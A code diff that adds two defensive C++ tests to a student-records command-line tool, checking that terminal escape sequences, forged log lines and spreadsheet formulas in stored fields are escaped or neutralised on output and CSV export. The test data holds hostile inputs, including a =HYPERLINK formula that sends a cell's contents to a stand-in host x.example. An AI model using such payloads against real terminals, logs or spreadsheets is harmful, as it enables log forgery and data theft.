@@ -276,3 +276,80 @@ TEST_CASE("Attack: a viewer can neither attach evidence nor read passports and b
         }
     }
 }
+
+TEST_CASE("Attack: terminal escapes and line breaks in stored text are printed escaped", "[cli][attack][unicode]")
+{
+    QTemporaryDir dir;
+    const QString db = demoCopy(dir);
+    const QString escape = QStringLiteral("Embassy\x1b[2J\x1b]0;owned\x07");
+    const QString twoLines = QStringLiteral("visa\n     1  2026-01-01T00:00:00.000Z  admin  delete students #1");
+    Run r = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("students"),
+                 dir.filePath(QStringLiteral("s.csv")), QStringLiteral("--recipient"), escape,
+                 QStringLiteral("--purpose"), twoLines});
+    if (r.exitCode == 0) {
+        // Accepted as typed: then it must come out harmless.
+        r = cli({QStringLiteral("--db"), db, QStringLiteral("log"), QStringLiteral("disclosures")});
+        REQUIRE(r.exitCode == 0);
+        CHECK_FALSE(r.out.contains(QChar(0x1b)));
+        CHECK_FALSE(r.out.contains(QChar(0x07)));
+        CHECK(r.out.count(QLatin1Char('\n')) == 1);
+        CHECK(r.out.contains(QLatin1String("Embassy\\x1b[2J")));
+        CHECK(r.out.contains(QLatin1String("visa\\n")));
+    } else {
+        CHECK(r.err.contains(QLatin1String("control character")));
+        CHECK_FALSE(r.err.contains(QChar(0x1b)));
+    }
+    // A display name reaches user list and the change log.
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.insert(QStringLiteral("DUALDEGREE_NEW_PASSWORD"), QStringLiteral("a long password"));
+    r = cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("clerk"),
+             QStringLiteral("--role"), QStringLiteral("viewer"), QStringLiteral("--name"),
+             QStringLiteral("Clerk\x1b[31m\r\tred")},
+            env);
+    for (const QStringList& call : {QStringList {QStringLiteral("user"), QStringLiteral("list")},
+                                    QStringList {QStringLiteral("log"), QStringLiteral("show")}}) {
+        const Run shown = cli(QStringList {QStringLiteral("--db"), db} + call);
+        CHECK_FALSE(shown.out.contains(QChar(0x1b)));
+        CHECK_FALSE(shown.out.contains(QLatin1Char('\r')));
+        CHECK_FALSE(shown.err.contains(QChar(0x1b)));
+    }
+    CHECK_FALSE(r.err.contains(QChar(0x1b)));
+}
+
+TEST_CASE("Attack: a formula in a name is exported neutralised, and the export still imports", "[cli][attack][csv]")
+{
+    QTemporaryDir dir;
+    const QString db = demoCopy(dir);
+    const QString students = dir.filePath(QStringLiteral("new.csv"));
+    ddtest::writeFile(students,
+                      QByteArray("student_id,cqupt_no,ruts_no,family_name,given_name,name_zh,name_th,"
+                                 "date_of_birth,nationality,passport_no,email,cohort,status\n"
+                                 "DD2099001,,,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\","
+                                 "+SUM(1),,,2004-01-01,TH,AA1,,2020,active\n"
+                                 "DD2099002,,,@cmd,-2+3,,,2004-01-02,TH,AA2,,2020,active\n"));
+    Run r = cli({QStringLiteral("--db"), db, QStringLiteral("import"), QStringLiteral("students"), students});
+    INFO(r.err.toStdString());
+    REQUIRE(r.exitCode == 0);
+    const QString out = dir.filePath(QStringLiteral("out.csv"));
+    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("students"), out,
+                 QStringLiteral("--cohort"), QStringLiteral("2020"), QStringLiteral("--recipient"),
+                 QStringLiteral("the registry"), QStringLiteral("--purpose"), QStringLiteral("a check")})
+                .exitCode
+            == 0);
+    const QByteArray csv = ddtest::readFile(out);
+    // No cell starts a formula: each such cell begins with one apostrophe.
+    CHECK(csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""));
+    CHECK(csv.contains(",'+SUM(1),"));
+    CHECK(csv.contains(",'@cmd,'-2+3,"));
+    for (const QByteArray& line : csv.split('\n')) {
+        for (const QByteArray& cell : line.split(',')) {
+            CHECK_FALSE((cell.startsWith('=') || cell.startsWith('+') || cell.startsWith('@')));
+        }
+    }
+    // The export imports back unchanged: exactly one apostrophe is taken off again.
+    r = cli({QStringLiteral("--db"), db, QStringLiteral("import"), QStringLiteral("students"), out,
+             QStringLiteral("--dry-run")});
+    INFO(r.out.toStdString() << r.err.toStdString());
+    CHECK(r.exitCode == 0);
+    CHECK(r.out.contains(QLatin1String("0 would be added, 0 would change")));
+}
